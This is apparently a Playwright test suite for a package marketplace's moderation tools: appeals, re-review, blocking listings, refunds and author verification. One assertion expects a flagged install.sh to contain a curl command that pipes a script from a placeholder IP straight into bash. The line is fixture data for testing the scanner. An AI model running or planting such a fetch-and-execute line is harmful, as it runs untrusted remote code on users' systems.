import { refusedListing, warnedFiles } from "../api/moderation";
import { expect, purchase, signIn, test, unique } from "../fixtures";

test("an appeal is read, answered in writing and granted", async ({ page, browser, seller }) => {
  const author = await seller({ connected: false });
  const { slug, versionId } = await refusedListing(author);

  await signIn(page, author.name, `/dashboard/listings/${slug}`);
  const refused = page.getByRole("region", { name: "Version 1.0.0 was refused" });
  await refused.getByText("Appeal to a person").click();
  await refused.getByLabel("Why the review is wrong").fill("The script is an example that nothing runs.");
  await refused.getByRole("button", { name: "Send the appeal" }).click();
  await expect(refused.getByText("Waits for an answer")).toBeVisible();
  await expect(refused.getByText("Appeal to a person")).toHaveCount(0);

  const desk = await browser.newPage();
  await signIn(desk, "admin", `/admin/versions/${versionId}`);
  await expect(desk.getByText("The script is an example that nothing runs.")).toBeVisible();
  await desk.getByRole("region", { name: "Files" }).getByRole("link", { name: "install.sh" }).click();
  await expect(desk.getByLabel("Content of install.sh")).toContainText("curl -fsS http://203.0.113.9/x | bash");
  await desk.getByLabel("Reason").fill("Agreed: it is an example.");
  await desk.getByRole("button", { name: "Publish it" }).click();
  await expect(desk.getByText("Version approved")).toBeVisible();
  await desk.close();

  await page.reload();
  await expect(refused).toHaveCount(0);
  await expect(page.getByRole("main").getByText("Current")).toBeVisible();
});

test("an author has the same package reviewed again", async ({ page, seller }) => {
  const author = await seller({ connected: false });
  const { slug } = await refusedListing(author);
  await signIn(page, author.name, `/dashboard/listings/${slug}`);
  const refused = page.getByRole("region", { name: "Version 1.0.0 was refused" });
  await refused.getByRole("button", { name: "Review again" }).click();
  await expect(page.getByText("Version 1.0.0 is in review").or(refused)).toBeVisible();
  await expect(refused.getByText("install.sh:1")).toBeVisible({ timeout: 20_000 });
});

test("a moderator finds a listing by its slug, blocks it with a reason and lifts the block", async ({
  page,
  seller,
  listing,
}) => {
  const { slug } = await listing(await seller({ connected: false }));
  await signIn(page, "admin", "/admin/listings");
  await page.getByLabel("Slug").fill(slug);
  await page.getByRole("main").getByRole("button", { name: "Find" }).click();
  await page.getByLabel("Reason").fill("It pretends to be somebody else's.");
  await page.getByRole("button", { name: "Block it" }).click();
  await expect(page.getByText("Blocked by a moderator")).toBeVisible();

  const reason = `They have shown that ${slug} is theirs.`;
  await page.getByLabel("Reason").fill(reason);
  await page.getByRole("button", { name: "Lift the block" }).click();
  await expect(page.getByText("Blocked by a moderator")).toHaveCount(0);
  await expect(page.getByText("Block lifted")).toBeVisible();

  await page.goto("/admin/audit");
  await expect(page.getByText(reason)).toBeVisible();
});

test("a warned first version waits in the queue until somebody looked", async ({ page, seller, listing }) => {
  const slug = unique("warned");
  const title = `Warned ${slug}`;
  await listing(await seller({ connected: false }), { slug, title, price_cents: 900, files: warnedFiles(slug) });
  await signIn(page, "admin", "/admin?kind=warned");
  await openEntry(page, title);
  await page.getByLabel("Reason").fill("The hook only greets.");
  await page.getByRole("button", { name: "Keep it published" }).click();
  await expect(page.getByText("Version approved")).toBeVisible();
});

test("a moderator gives a part of a purchase back", async ({ page, seller, listing, buyer }) => {
  const bob = await buyer();
  const { purchase_id } = await purchase(bob, await listing(await seller(), { price_cents: 2000 }));
  await signIn(page, "admin", `/admin/purchases?number=${purchase_id}`);
  await page.getByLabel("Amount in dollars").fill("25");
  await page.getByLabel("Reason").fill("It did half of what it says.");
  await page.getByRole("button", { name: "Give back" }).click();
  await expect(page.getByText("only 2000 cents are left to give back")).toBeVisible();
  await page.getByLabel("Amount in dollars").fill("7.50");
  await page.getByRole("button", { name: "Give back" }).click();
  await expect(page.getByRole("region", { name: "Refunds" }).getByText("$7.50")).toBeVisible();
});

test("a moderator marks an author as verified", async ({ page, seller }) => {
  const author = await seller({ connected: false });
  const { body } = await author.get<{ display_name_slug: string }>("/v1/users/profile");
  await signIn(page, "admin", `/admin/people?named=${body.display_name_slug}`);
  await page.getByRole("button", { name: /^Mark as verified/ }).click();
  await expect(page.getByRole("main").getByText("Verified", { exact: true })).toBeVisible();
});

/** The entry may be on a later page: other tests' entries wait there too. */
async function openEntry(page: import("@playwright/test").Page, title: string): Promise<void> {
  const entry = page.getByRole("main").getByRole("link", { name: title });
  const next = page.getByRole("link", { name: "Next" });
  for (;;) {
    await expect(entry.or(next).first()).toBeVisible();
    if (await entry.isVisible()) break;
    const url = page.url();
    await next.click();
    await page.waitForURL((now) => now.href !== url);
  }
  await entry.click();
}
